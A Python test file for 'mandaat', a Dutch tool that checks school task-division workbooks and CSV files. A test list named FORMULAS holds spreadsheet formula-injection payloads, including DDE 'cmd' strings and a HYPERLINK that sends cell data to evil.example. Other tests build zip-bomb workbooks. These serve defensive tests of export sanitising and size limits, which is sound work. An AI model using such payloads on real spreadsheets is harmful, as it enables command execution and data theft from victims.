"""Workbooks and CSV: the template, import, export, the planner layout and hostile files."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
import os
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml

import mandaat
from mandaat import SchoolFileError
from mandaat import workbook as W
from mandaat._dutch import problem_text
from mandaat.cli import main
from mandaat.errors import MandaatInputError, Problem
from tests.conftest import BASE
from tests.unit.test_dutch import english_words

# --- helpers ---------------------------------------------------------------------------------


def problems(call: Any, *args: Any, **kwargs: Any) -> list[Problem]:
    with pytest.raises(SchoolFileError) as info:
        call(*args, **kwargs)
    return list(info.value.problems)


def dutch(problem: Problem) -> str:
    return problem.text("nl")


def saved(wb: openpyxl.Workbook, path: Path) -> Path:
    wb.save(path)
    return path


def export(data: dict[str, Any], path: Path) -> Path:
    path.write_bytes(W.workbook_bytes(mandaat.load_school(data)))
    return path


def edit(path: Path, change: Any) -> Path:
    """Open a workbook as a person would (openpyxl, not read-only), change it, save it."""
    wb = openpyxl.load_workbook(path)
    change(wb)
    wb.save(path)
    return path


def column_of(ws: Any, heading: str) -> int:
    return next(c.column for c in ws[1] if c.value == heading)


def row_of(ws: Any, ident: str) -> int:
    return next(r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=1).value == ident)


# --- the template, filled in as a school leader would, to a report --------------------------


def fill_template(path: Path) -> None:
    """Fill the template with openpyxl the way a school leader fills it in Excel: names, no
    ids, roles from the list, the matrix with letters and hours, Dutch dates and ja/nee."""
    wb = openpyxl.load_workbook(path)
    school = wb["School"]
    school["B2"] = "OBS Het Kompas"
    school["B4"] = dt.datetime(2026, 11, 22)          # Peildatum, a date cell
    school["B5"] = "Marieke Vos"                      # Standaard eindverantwoordelijke
    people = wb["Personen"]
    for r, row in enumerate([
        (None, "Marieke Vos", "schoolleider", 38, None, None),
        (None, "Ilse Bakker", "intern_begeleider", None, 3, None),
        (None, "Tom Mulder", "leraar", None, None, 5),
        (None, "Sara de Boer", "leraar, bouwcoordinator", None, None, "7"),
    ], start=2):
        for c, value in enumerate(row, start=1):
            if value is not None:
                people.cell(row=r, column=c, value=value)
    teams = wb["Teams"]
    teams.append(["bovenbouw", "bouw", "Bovenbouw", "Tom Mulder, Sara de Boer"])
    tasks = wb["Taken"]
    first = column_of(tasks, "Hele team")
    for c, name in enumerate(["Marieke Vos", "Ilse Bakker", "Tom Mulder", "Sara de Boer",
                              "Bovenbouw"], start=first + 2):
        tasks.cell(row=1, column=c, value=name)
    heads = {cell.value: cell.column for cell in tasks[1] if cell.value}
    rows = [
        ("Schoolanalyse na de M-toetsen", "schoolanalyse", {"Marieke Vos": "A",
                                                            "Ilse Bakker": "R 20",
                                                            "Hele team": "I"}),
        ("Trendanalyse", "trendanalyse", {"Ilse Bakker": "R 2,5", "Bovenbouw": "C"}),
        ("Groepsbesprekingen", "groepsbespreking", {"Ilse Bakker": "R", "Tom Mulder": "C",
                                                   "Sara de Boer": "C"}),
        ("Studiedag", "studiedag", {"Ilse Bakker": "R 8"}),
        ("MDO organiseren", "mdo_organiseren", {"Ilse Bakker": "R 16", "Ouders": "C"}),
        ("Kwaliteitsoverleg directie en ib", "kwaliteitsdialoog",
         {"Marieke Vos": "A/R", "Ilse Bakker": "R"}),
    ]
    for r, (title, kind, cells) in enumerate(rows, start=2):
        tasks.cell(row=r, column=heads["Taak"], value=title)
        tasks.cell(row=r, column=heads["Soort taak"], value=kind)
        for name, value in cells.items():
            tasks.cell(row=r, column=heads[name], value=value)
    mandates = wb["Mandaten"]
    mandates.append([None, "Marieke Vos", "Ilse Bakker", "data_monitoring_reflectie", "ja",
                     dt.datetime(2026, 8, 24)])
    signals = wb["Signalen"]
    signals.append([None, "ontwikkeling_blijft_achter", "Tom Mulder", None, "Ilse Bakker",
                    "01-06-2026"])
    wb.save(path)


def test_from_the_template_to_a_checked_report_without_yaml(tmp_path):
    path = tmp_path / "werkverdeling.xlsx"
    W.write_template(path)
    fill_template(path)
    school = mandaat.load_school(path)
    assert school.school.name == "OBS Het Kompas"
    assert [p.id for p in school.people] == ["marieke-vos", "ilse-bakker", "tom-mulder",
                                            "sara-de-boer"]
    assert school.people[3].roles == ["leraar", "bouwcoordinator"]
    assert school.people[1].days_per_week == 3 and school.people[2].groups == ["5"]
    assert school.defaults is not None and school.defaults.accountable == "marieke-vos"
    analyse, trend = school.tasks[0], school.tasks[1]
    assert analyse.id == "schoolanalyse-na-de-m-toetsen"
    assert analyse.accountable == ["marieke-vos"] and analyse.informed == ["team"]
    assert analyse.hours == {"ilse-bakker": 20}
    assert trend.hours == {"ilse-bakker": 2.5} and trend.consulted == ["bovenbouw"]
    assert school.tasks[4].consulted == ["ouders"]
    assert school.mandates[0].id == "m-ilse-bakker" and school.mandates[0].communicated_to_team
    assert school.signals[0].since == dt.date(2026, 6, 1)
    assert school.as_of == dt.date(2026, 11, 22)
    report = mandaat.check(school)
    cells = W.workbook_cells(school)
    assert cells["ilse-bakker"] == "Personen!A3" and cells["s-tom-mulder"] == "Signalen!A2"
    text = mandaat.report.render_text(report, "nl", cells=cells)
    assert text.startswith("Taakverdeling van OBS Het Kompas (peildatum 2026-11-22)")
    # Tom's development lags since June: more than twelve weeks, so a finding on the signal
    assert "DEV_LAG_TO_LEADER" in {f.rule for f in report.findings}
    # a finding about a row names the row's cell
    named = [f"{s} ({cells[s]})" for f in report.findings for s in f.subjects if s in cells]
    assert "s-tom-mulder (Signalen!A2)" in named
    assert all(n in text for n in named)


def test_the_template_has_dutch_sheets_lists_and_instructions():
    wb = openpyxl.load_workbook(io.BytesIO(W.template_bytes()))
    assert wb.sheetnames[:5] == ["Uitleg", "School", "Personen", "Teams", "Externen"]
    assert {"Taken", "Mandaten", "Signalen", "Routes", "Drempels", "Lijsten"} <= set(
        wb.sheetnames)
    assert wb["mandaat"].sheet_state == "hidden"
    assert [c.value for c in wb["Personen"][1]][:3] == ["ID", "Naam", "Rollen"]
    assert "Werkverdeling invullen" in wb["Uitleg"]["A1"].value
    lists = {wb["Lijsten"].cell(row=1, column=c).value: c for c in range(1, 10)}
    roles = [wb["Lijsten"].cell(row=r, column=lists["Rollen"]).value for r in range(2, 11)]
    assert roles == list(mandaat.school.vocabulary.ROLES)
    validations = {str(dv.sqref): dv.formula1 for dv in wb["Personen"].data_validations.dataValidation}
    assert any(f.startswith("=Lijsten!$A$2") for f in validations.values())
    taken = {str(dv.sqref): dv for dv in wb["Taken"].data_validations.dataValidation}
    assert any(dv.formula1.startswith("=Lijsten!$B$2") and dv.showErrorMessage
               for dv in taken.values())  # the task type: only words from the list
    # the drempels of the bundled pack, with their defaults
    params = {wb["Drempels"].cell(row=r, column=1).value: wb["Drempels"].cell(row=r, column=3).value
              for r in range(2, 8)}
    assert params["dev_lag_weeks"] == 12


def test_an_empty_template_reads_as_a_school_without_a_name(tmp_path):
    path = tmp_path / "leeg.xlsx"
    W.write_template(path)
    (problem,) = problems(W.read_workbook, path)
    assert dutch(problem) == f"{path}: School!B2: ontbrekend verplicht veld 'Naam van de school'"


# --- the example: bundled as a workbook, and any school back and forth ----------------------


def test_the_bundled_example_workbook_is_the_example_school():
    yaml_school = mandaat.load_school(mandaat.example_school_path())
    bundled = W.read_workbook(W.example_workbook_path())
    assert bundled == yaml_school
    fresh = W.read_workbook(W.workbook_bytes(yaml_school))
    assert fresh == bundled
    assert mandaat.dump_school(bundled) == mandaat.dump_school(yaml_school)


def test_the_example_workbook_keeps_the_file_order_the_matrix_cannot_show():
    school = mandaat.load_school(mandaat.example_school_path())
    scholing = next(t for t in school.tasks if t.id == "scholing-plannen")
    assert scholing.responsible == ["yara", "ilse"]  # yara comes after ilse in Personen
    wb = openpyxl.load_workbook(io.BytesIO(W.workbook_bytes(school)))
    meta = wb["mandaat"]
    rows = [[c.value for c in row] for row in meta.iter_rows(min_row=2)]
    assert ["volgorde", "scholing-plannen", "responsible", "yara, ilse"] in rows
    # the matrix wins where it no longer shows the same people
    ws = wb["Taken"]
    ws.cell(row=row_of(ws, "scholing-plannen"), column=column_of(ws, "Tom Mulder"), value="R")
    out = io.BytesIO()
    wb.save(out)
    changed = W.read_workbook(out.getvalue())
    assert next(t for t in changed.tasks if t.id == "scholing-plannen").responsible == [
        "ilse", "yara", "tom"]


def test_names_write_back_as_names_and_collisions_as_ids(tmp_path):
    data = copy.deepcopy(BASE)
    data["people"] += [{"id": "taak", "roles": ["leraar"]},        # the name of a column
                       {"id": "x1", "name": "tom", "roles": ["leraar"]},        # another's id
                       {"id": "x2", "name": "Anna Jansen", "roles": ["leraar"]}]  # a twin
    data["tasks"][0]["consulted"] = ["taak", "x1", "x2", "anna"]
    school = mandaat.load_school(data)
    wb = openpyxl.load_workbook(io.BytesIO(W.workbook_bytes(school)))
    heads = [c.value for c in wb["Taken"][1]][7:]
    assert heads == ["anna", "Ilse Bakker", "Tom Mulder", "sara", "taak (taak)", "x1", "x2",
                     "lt-boven", "Hele team", "Ouders"]
    assert W.read_workbook(W.workbook_bytes(school)) == school


# --- problems name the sheet and the cell, every one at once ---------------------------------


def test_a_misspelled_role_and_person_name_with_did_you_mean(tmp_path):
    path = export(BASE, tmp_path / "werkverdeling.xlsx")

    def mistakes(wb: openpyxl.Workbook) -> None:
        wb["Personen"]["C3"] = "ib-er"
        tasks = wb["Taken"]
        tasks.cell(row=1, column=column_of(tasks, "Anna Jansen"), value="Anna Janssen")
        wb["Personen"]["D4"] = 200                       # hours per week: the loader finds it

    edit(path, mistakes)
    found = problems(W.read_workbook, path)
    texts = sorted(dutch(p) for p in found)
    assert texts == sorted([
        f"{path}: Personen!C3: onbekende rol 'ib-er' (bedoelde u 'intern_begeleider'?)",
        f"{path}: Taken!H1: er is geen persoon, team of externe partij met naam of id "
        "'Anna Janssen' (bedoelde u 'Anna Jansen'?)",
        f"{path}: Personen!D4: mag hoogstens 168 zijn, niet 200",
    ])
    assert {p.type for p in found} == {"unknown_value", "unknown_reference", "too_large"}
    assert all(p.line is None and len(p.loc) == 1 for p in found)
    assert str(found[0]).startswith(f"{path}: ")  # English stays in Problem.msg


def test_loader_problems_point_at_the_cell_they_came_from(tmp_path):
    path = export(BASE, tmp_path / "w.xlsx")

    def mistakes(wb: openpyxl.Workbook) -> None:
        wb["Teams"]["A2"] = "tom"                         # an id a person has
        wb["Signalen"] if "Signalen" in wb.sheetnames else None
        wb["Mandaten"].append(["m1", "Anna Jansen", "Ilse Bakker", "schoolanalyse", "misschien"])
        wb["School"]["B4"] = "2026-13-01"

    edit(path, mistakes)
    texts = {dutch(p) for p in problems(W.read_workbook, path)}
    assert f"{path}: Teams!A2: de id 'tom' komt twee keer voor (ook bij Personen!A4)" in texts
    assert f"{path}: Mandaten!E2: verwacht ja of nee, kreeg 'misschien'" in texts
    assert f"{path}: School!B4: '2026-13-01' is geen datum: er is geen maand 13" in texts


def test_unknown_columns_sheets_and_empty_headings(tmp_path):
    path = export(BASE, tmp_path / "w.xlsx")

    def mistakes(wb: openpyxl.Workbook) -> None:
        wb["Personen"]["M1"] = "Rolen"
        wb["Personen"]["M2"] = "x"
        wb["Teams"]["E3"] = "zonder kop"
        wb.create_sheet("Persoonen")                      # 'Personen' is there: not read
        wb.create_sheet("Notities")                       # a sheet of its own: left alone

    edit(path, mistakes)
    texts = {dutch(p) for p in problems(W.read_workbook, path)}
    assert any(t.startswith(f"{path}: Personen!M1: onbekende kolom 'Rolen' (bedoelde u "
                            "'Rollen'?); bekend: ID, Naam, Rollen") for t in texts)
    assert f"{path}: Teams!E1: een kolom zonder kop bevat waarden; schrijf een kop in rij 1" in texts
    assert not any("Notities" in t or "Persoonen" in t for t in texts)


def _notes(school: mandaat.School, lang: str = "nl") -> list[tuple[str, list[str], str]]:
    """The report's notes on the workbook's sheets."""
    return [(n.kind, n.subjects, n.message) for n in mandaat.check(school, lang=lang).notes
            if n.kind.startswith("sheet_")]


def _example_data() -> dict[str, Any]:
    return yaml.safe_load(mandaat.example_school_path().read_text(encoding="utf-8"))


@pytest.mark.parametrize("sheet", ["Werkverdeling", "Takenverdeling", "Instructies", "Rasci",
                                   "Persoonen", "Notities", "Blad1"])
def test_a_sheet_of_the_schools_own_is_left_alone_with_a_note(tmp_path, sheet):
    path = export(_example_data(), tmp_path / "w.xlsx")
    expected = mandaat.check(W.read_workbook(path)).to_json()

    def own_sheet(wb: openpyxl.Workbook) -> None:
        ws = wb.create_sheet(sheet)
        ws.append(["Wie", "Wat", "Uren"])               # a table of the school's own
        ws.append(["Anna", "Rooster", 3])

    edit(path, own_sheet)
    school = W.read_workbook(path)
    assert json.loads(mandaat.check(school).to_json())["findings"] == \
        json.loads(expected)["findings"]
    (note,) = _notes(school)
    assert note[:2] == ("sheet_ignored", [sheet])
    assert note[2].startswith(f"Blad '{sheet}' is niet gelezen")
    assert _notes(school, "en")[0][2].startswith(f"Sheet '{sheet}' was not read")


@pytest.mark.parametrize("sheet", ["Taak", "Onze taken", "Blad1", "RACI 2026"])
def test_a_renamed_task_sheet_is_read_by_its_headings(tmp_path, sheet):
    data = _example_data()
    path = export(data, tmp_path / "w.xlsx")
    expected = json.loads(mandaat.check(W.read_workbook(path)).to_json())
    assert expected["summary"]["violation"] == 7

    def rename(wb: openpyxl.Workbook) -> None:
        wb["Taken"].title = sheet

    edit(path, rename)
    school = W.read_workbook(path)
    assert len(school.tasks) == len(data["tasks"])
    assert json.loads(mandaat.check(school).to_json())["findings"] == expected["findings"]
    assert _notes(school) == [("sheet_read_as", [sheet],
                               f"Blad '{sheet}' is gelezen als 'Taken' (aan de kolomkoppen "
                               "herkend)")]


def test_a_mistyped_sheet_mandaat_lacks_is_read_by_its_name(tmp_path):
    path = export(_example_data(), tmp_path / "w.xlsx")
    expected = W.read_workbook(path).mandates

    def rename(wb: openpyxl.Workbook) -> None:
        wb["Mandaten"].title = "Mandatn"

    edit(path, rename)
    school = W.read_workbook(path)
    assert school.mandates == expected and expected
    assert _notes(school) == [("sheet_read_as", ["Mandatn"],
                               "Blad 'Mandatn' is gelezen als 'Mandaten' (aan de kolomkoppen "
                               "herkend)")]


@pytest.mark.parametrize("empty", ["tasks", "people"])
def test_a_division_without_tasks_or_people_is_no_clean_bill_of_health(tmp_path, empty):
    data = copy.deepcopy(BASE)
    data["tasks"] = []
    if empty == "people":
        data.update(people=[], teams=[], mandates=[], signals=[], externals=[])
    report = mandaat.check(mandaat.load_school(data))
    (note,) = [n for n in report.notes if n.kind == "nothing_to_judge"]
    said = "geen taken" if empty == "tasks" else "geen taken en geen personen"
    assert note.message.startswith(f"Er is weinig te beoordelen: de taakverdeling heeft {said}.")
    assert "nothing_to_judge" in report.to_json()
    full = mandaat.check(mandaat.load_school(BASE))
    assert all(n.kind != "nothing_to_judge" for n in full.notes)


def test_an_ambiguous_name_and_a_team_with_hours(tmp_path):
    data = copy.deepcopy(BASE)
    data["people"][3]["name"] = "Tom Mulder"             # sara is called Tom Mulder too
    path = export(data, tmp_path / "w.xlsx")

    def mistakes(wb: openpyxl.Workbook) -> None:
        wb["Teams"]["D2"] = "Tom Mulder"
        tasks = wb["Taken"]
        tasks.cell(row=2, column=column_of(tasks, "lt-boven"), value="R 4")

    edit(path, mistakes)
    texts = {dutch(p) for p in problems(W.read_workbook, path)}
    assert (f"{path}: Teams!D2: 'Tom Mulder' past bij meer dan één: tom, sara; schrijf de id"
            in texts)
    assert f"{path}: Taken!{_col(path, 'lt-boven')}2: uren horen bij een persoon, niet bij 'lt-boven'" in texts


def _col(path: Path, heading: str) -> str:
    ws = openpyxl.load_workbook(path)["Taken"]
    return openpyxl.utils.get_column_letter(column_of(ws, heading))


def test_a_matrix_cell_that_is_no_raci(tmp_path):
    path = export(BASE, tmp_path / "w.xlsx")
    edit(path, lambda wb: wb["Taken"].cell(row=3, column=column_of(wb["Taken"], "Ilse Bakker"),
                                           value="X 3"))
    (problem,) = problems(W.read_workbook, path)
    assert problem.loc == (f"Taken!{_col(path, 'Ilse Bakker')}3",)
    assert problem.text("nl").endswith(
        "verwacht A, R, C of I en/of uren (zoals 'R 20'), kreeg 'X 3'")


@pytest.mark.parametrize("cell, expected", [
    ("A", (["A"], None)), ("a/r", (["A", "R"], None)), ("R 20", (["R"], 20)),
    ("R 2,5", (["R"], 2.5)), ("C: 4 uur", (["C"], 4)), ("RA", (["A", "R"], None)),
    (12, ([], 12)), ("7", ([], 7)), ("I  ", (["I"], None)),
    ("X", None), ("R twintig", None), ("", None), (True, None),
])
def test_matrix_cells(cell, expected):
    assert W._sheets._matrix_cell(cell) == expected


# --- export refuses what a workbook cannot hold ----------------------------------------------


def test_export_refuses_what_it_cannot_hold_and_says_where(monkeypatch):
    data = copy.deepcopy(BASE)
    data["people"][2]["groups"] = ["1, 2"]
    data["people"][0]["name"] = "Anna\x01Jansen"
    found = problems(W.workbook_bytes, mandaat.load_school(data))
    assert {(p.loc, p.type) for p in found} == {
        (("people", 2, "groups", 0), "cannot_export"), (("people", 0, "name"), "cannot_export")}
    for problem in found:
        assert not english_words(problem_text(problem, "nl").replace("'", ""))


def test_a_section_without_a_sheet_is_refused_not_dropped(monkeypatch):
    school = mandaat.load_school(mandaat.example_school_path())
    monkeypatch.setattr(W._columns, "_has_routes", lambda: False)  # as before the Routes sheet
    (problem,) = problems(W.workbook_bytes, school)
    assert problem.type == "cannot_export" and problem.loc == ("routes",)
    assert problem.line is not None  # in the YAML file, with its line
    assert problem.text("nl").endswith("routes: het werkboek heeft geen blad voor 'routes'; "
                                       "bewaar deze school als YAML of JSON")


def test_export_refuses_a_field_it_has_no_column_for(monkeypatch):
    school = mandaat.load_school(BASE)
    real = W._sheets._TableSheet.fields
    monkeypatch.setattr(W._sheets._TableSheet, "fields",
                        lambda self: real(self) - {("name",)} if self.table.section == "people"
                        else real(self))
    found = problems(W.workbook_bytes, school)
    assert {p.loc for p in found} == {("people", 0, "name"), ("people", 1, "name"),
                                      ("people", 2, "name")}


# --- CSV --------------------------------------------------------------------------------------


def write_csv(path: Path, rows: list[list[Any]], delimiter: str = ",", bom: bool = False) -> Path:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows(rows)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + out.getvalue().encode("utf-8"))
    return path


def test_a_csv_matrix_alone_with_roles_in_the_headings(tmp_path):
    path = write_csv(tmp_path / "taken.csv", [
        ["Taak", "Soort taak", "Anna Jansen (schoolleider)", "Ilse Bakker (ib'er)",
         "Tom Mulder (leraar)", "Hele team"],
        ["Schoolanalyse", "schoolanalyse", "A", "R 20", "", "I"],
        ["Studiedag", "studiedag", "A", "R 2,5", "C", ""],
    ], delimiter=";", bom=True)
    found = problems(W.read_csv, path)
    assert [dutch(p) for p in found] == [
        f"{path}: D1: onbekende rol 'ib'er' (bedoelde u 'intern_begeleider'?)"]
    path.write_text(path.read_text(encoding="utf-8-sig").replace("ib'er", "intern begeleider"),
                    encoding="utf-8")
    school = W.read_csv(path)
    assert school.school.name == "taken"
    assert [(p.id, p.roles) for p in school.people] == [
        ("anna-jansen", ["schoolleider"]), ("ilse-bakker", ["intern_begeleider"]),
        ("tom-mulder", ["leraar"])]
    assert school.tasks[1].hours == {"ilse-bakker": 2.5}
    assert W.workbook_cells(school)["schoolanalyse"] == "taken.csv!A2"


def test_a_csv_matrix_with_people_and_school_files(tmp_path):
    people = write_csv(tmp_path / "personen.csv", [
        ["ID", "Naam", "Rollen"], ["anna", "Anna Jansen", "schoolleider"],
        ["ilse", "Ilse Bakker", "intern_begeleider"]])
    school_csv = write_csv(tmp_path / "school.csv", [["Gegeven", "Waarde"],
                                                     ["Naam van de school", "OBS De Linde"],
                                                     ["Peildatum", "22-11-2026"]])
    tasks = write_csv(tmp_path / "taken.csv", [
        ["ID", "Taak", "Soort taak", "Anna Jansen", "ilse"],
        ["t1", "Schoolanalyse", "schoolanalyse", "A", "R 20"],
        ["t2", "Studiedag", "studiedag", "A", "R twintig"]])
    (problem,) = problems(W.read_csv, tasks, people=people, school=school_csv)
    assert dutch(problem) == (f"{tasks}: E3: verwacht A, R, C of I en/of uren (zoals 'R 20'), "
                              "kreeg 'R twintig'")
    tasks.write_text(tasks.read_text(encoding="utf-8").replace("R twintig", "R"),
                     encoding="utf-8")
    school = W.read_csv(tasks, people=people, school=school_csv)
    assert school.school.name == "OBS De Linde" and school.as_of == dt.date(2026, 11, 22)
    assert school.tasks[0].hours == {"ilse": 20} and school.tasks[1].responsible == ["ilse"]
    # a problem in the people file is located in that file
    people.write_text(people.read_text(encoding="utf-8").replace("schoolleider", "directeur"),
                      encoding="utf-8")
    (problem,) = problems(W.read_csv, tasks, people=people, school=school_csv)
    assert dutch(problem) == (f"{people}: C2: onbekende rol 'directeur' "
                              "(bedoelde u 'schoolleider'?)")


def test_a_csv_file_that_is_not_utf8_or_too_wide(tmp_path, monkeypatch):
    binary = tmp_path / "binary.csv"
    binary.write_bytes(b"Taak,Soort taak\n\xff\x00\x81,studiedag\n")
    (problem,) = problems(W.read_csv, binary)
    assert problem.type == "not_utf8"
    monkeypatch.setitem(W.LIMITS, "columns", 3)
    wide = write_csv(tmp_path / "wide.csv", [["Taak", "Soort taak", "a", "b", "c"]])
    (problem,) = problems(W.read_csv, wide)
    assert (problem.type, problem.loc) == ("workbook_too_large", ("D1",))


# --- formula injection: what mandaat writes, a spreadsheet never runs -----------------------

#: Texts a spreadsheet would run as a formula (the OWASP examples), with each start.
FORMULAS = ("=1+1", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "'=1+1")


@pytest.mark.parametrize("formula", [*FORMULAS, "\t=1+1", "\r=1+1"])
def test_a_csv_matrix_with_quoted_formulas_reads_back_as_the_names_and_titles(tmp_path,
                                                                             formula):
    """A CSV file in the reader's layout, written by mandaat's CSV rule: the quote it puts
    in front of a formula is taken off again, by the library, ``check`` and ``import``."""
    from mandaat._formula import csv_line

    rows = [["Taak", "Soort taak", "Anna Jansen (schoolleider)", f"{formula} (leraar)"],
            [formula, "schoolanalyse", "A", "R 20"]]
    path = tmp_path / "taken.csv"
    path.write_bytes("".join(csv_line(r) for r in rows).encode("utf-8"))
    written = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline=""),
                              delimiter=";"))
    assert written[0][3] == f"'{formula} (leraar)" and written[1][0] == f"'{formula}"
    school = W.read_csv(path)
    # a heading's name is read without the spaces around it (so a tab or CR in front goes)
    assert [p.name for p in school.people] == ["Anna Jansen", formula.strip()]
    assert [t.title for t in school.tasks] == [formula]
    from tests.cli.test_cli import run

    code, out, err = run("check", str(path), "--format", "json")
    assert code in (0, 1) and err == "" and json.loads(out)["school"] == "taken"
    code, out, err = run("import", str(path))
    assert (code, err) == (0, "")
    back = yaml.safe_load(out)
    assert [p["name"] for p in back["people"]] == ["Anna Jansen", formula.strip()]
    assert [t["title"] for t in back["tasks"]] == [formula]


def test_a_quote_typed_in_front_of_other_text_stays(tmp_path):
    path = write_csv(tmp_path / "taken.csv", [
        ["Taak", "Soort taak", "Anna Jansen (schoolleider)", "'Tom (leraar)"],
        ["'s Morgens", "schoolanalyse", "A", "R 20"]], delimiter=";")
    school = W.read_csv(path)
    assert [p.name for p in school.people] == ["Anna Jansen", "'Tom"]
    assert school.tasks[0].title == "'s Morgens"


def test_an_exported_workbook_holds_no_formula_whatever_the_names(tmp_path):
    """Every text is written as a string cell (data type 's'), so a name that starts with
    '=' stays a name in Excel; only the drop-down lists of the template are formulas."""
    data = copy.deepcopy(BASE)
    people = {p["id"]: p for p in data["people"]}
    for person, formula in zip(people.values(), FORMULAS):
        person["name"] = formula
    data["school"]["name"] = FORMULAS[4]
    data["tasks"][0]["title"] = FORMULAS[2]
    school = mandaat.load_school(data)
    path = tmp_path / "w.xlsx"
    W.write_workbook(school, path)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not [n for n in sheets if b"<f>" in z.read(n) or b"<f " in z.read(n)]
    book = openpyxl.load_workbook(path)
    assert not [(ws.title, c.coordinate) for ws in book for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    texts = {c.value for ws in book for row in ws.iter_rows() for c in row}
    assert set(FORMULAS[:len(people)]) <= texts
    assert W.read_workbook(path) == school


# --- the planner layout: activities down, team members across, hours in the cells ----------


def planner_workbook(path: Path, change: Any = None) -> Path:
    """An activity overview laid out the way school planners lay it out, in our words."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Werkverdeling"
    ws["A1"] = "Werkverdelingsplan 2026-2027"
    ws.merge_cells("A1:H1")                                 # a title over the sheet
    ws["A2"] = "School: OBS De Linde"
    ws.append([])
    ws.append(["Nr", "Activiteit", "Norm", "Jeroen Bakker", "Femke de Groot", "Sanne Visser",
               "Pieter Smit", "Totaal"])                    # row 4
    ws.append([None, "Functie", None, "directeur", "ib'er", "leerkracht",
               "leerkracht, bouwcoördinator"])
    ws.append([None, "WTF", None, 1, "0,6", 0.8, 1])
    ws.append([None, "Groep", None, None, None, 5, 7])
    ws.append(["A", "Algemene taken"])                      # row 8: a heading
    ws.merge_cells("B8:H8")
    ws.append([1, "Teamvergaderingen", 40, 40, 24, 32, 40, "=SUM(D9:G9)"])
    ws.append([2, "Leerlingbesprekingen", 20, None, 30, 10, 10, "=SUM(D10:G10)"])
    ws.append([3, "Schoolanalyse na de M-toetsen", 16, "A 8", 20, None, None, "=SUM(D11:G11)"])
    ws.append([4, "Coördinatie bovenbouw", None, None, None, None, 40, "=SUM(D12:G12)"])
    ws.append([5, "Oudergesprekken", 10, None, None, 0, None, "=SUM(D13:G13)"])
    ws.append([None, "Totaal", None, "=SUM(D9:D13)", "=SUM(E9:E13)", "=SUM(F9:F13)",
               "=SUM(G9:G13)"])
    if change:
        change(ws)
    return saved(wb, path)


def test_a_planner_workbook_converts_with_the_documented_mapping(tmp_path):
    school = W.read_workbook(planner_workbook(tmp_path / "planner.xlsx"))
    assert school.school.name == "OBS De Linde"
    assert [(p.id, p.roles, p.hours_per_week, p.groups) for p in school.people] == [
        ("jeroen-bakker", ["schoolleider"], 40, []),
        ("femke-de-groot", ["intern_begeleider"], 24, []),
        ("sanne-visser", ["leraar"], 32, ["5"]),
        ("pieter-smit", ["leraar", "bouwcoordinator"], 40, ["7"])]
    assert [(t.id, t.type) for t in school.tasks] == [
        ("teamvergaderingen", "overig"),
        ("leerlingbesprekingen", "leerlingbespreking"),
        ("schoolanalyse-na-de-m-toetsen", "schoolanalyse"),
        ("coordinatie-bovenbouw", "overig"),
        ("oudergesprekken", "overig")]                     # a norm, nobody planned yet
    analyse = school.tasks[2]
    assert analyse.accountable == ["jeroen-bakker"] and analyse.responsible == ["femke-de-groot"]
    assert analyse.hours == {"jeroen-bakker": 8, "femke-de-groot": 20}
    assert school.tasks[0].hours["femke-de-groot"] == 24
    assert school.tasks[4].responsible == [] and school.tasks[4].hours == {}
    assert school.defaults is not None and school.defaults.accountable == "jeroen-bakker"
    assert W.workbook_cells(school)["leerlingbesprekingen"] == "Werkverdeling!B10"
    report = mandaat.check(school)
    assert report.school == "OBS De Linde"


def test_a_planner_refuses_formulas_where_it_reads_hours_and_merged_activity_rows(tmp_path):
    def change(ws: Any) -> None:
        ws["E10"] = "=C10*1.5"
        ws.merge_cells("E11:F11")

    found = problems(W.read_workbook, planner_workbook(tmp_path / "p.xlsx", change))
    texts = {dutch(p) for p in found}
    path = tmp_path / "p.xlsx"
    assert (f"{path}: Werkverdeling!E10: een formule (=C10*1.5): mandaat leest alleen "
            "ingevulde waarden; kopieer de cel en plak hem als waarde (Plakken speciaal, "
            "Waarden)") in texts
    assert (f"{path}: Werkverdeling!E11: samengevoegde cellen (E11:F11): mandaat leest één "
            "waarde per cel; maak het samenvoegen ongedaan") in texts


def test_a_planner_function_no_one_knows(tmp_path):
    path = planner_workbook(tmp_path / "p.xlsx", lambda ws: ws.__setitem__("F5", "juffrouw"))
    (problem,) = problems(W.read_workbook, path)
    assert problem.loc == ("Werkverdeling!F5",) and problem.type == "unknown_value"


# --- hostile workbooks: refused cleanly, within the documented limits ------------------------


def small_workbook(path: Path) -> Path:
    return export(BASE, path)


def with_part(src: Path, dst: Path, name: str, data: bytes,
              compression: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info, zin.read(info))
        zout.writestr(name, data, compress_type=compression)
    return dst


def refused(path: Path | bytes) -> Problem:
    (problem,) = problems(W.read_workbook, path)
    return problem


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(tmp_path):
    big = tmp_path / "groot.xlsx"
    with big.open("wb") as f:
        f.truncate(W.LIMITS["file_bytes"] + 1)
    problem = refused(big)
    assert problem.type == "workbook_too_large"
    assert dutch(problem) == (f"{big}: (bestand): het bestand is 10.0 MB; mandaat leest "
                              "bestanden tot 10.0 MB")


def test_a_zip_bomb_is_refused(tmp_path):
    bomb = with_part(small_workbook(tmp_path / "a.xlsx"), tmp_path / "bom.xlsx",
                     "xl/media/image1.png", bytes(5_000_000))
    problem = refused(bomb)
    assert problem.type == "zip_bomb" and "xl/media/image1.png" in problem.msg


def test_too_many_parts_and_too_much_unpacked(tmp_path, monkeypatch):
    path = small_workbook(tmp_path / "a.xlsx")
    monkeypatch.setitem(W.LIMITS, "zip_entries", 5)
    assert refused(path).type == "workbook_too_large"
    monkeypatch.setitem(W.LIMITS, "zip_entries", 1000)
    monkeypatch.setitem(W.LIMITS, "unpacked_bytes", 10_000)
    assert "unpacks to" in refused(path).msg


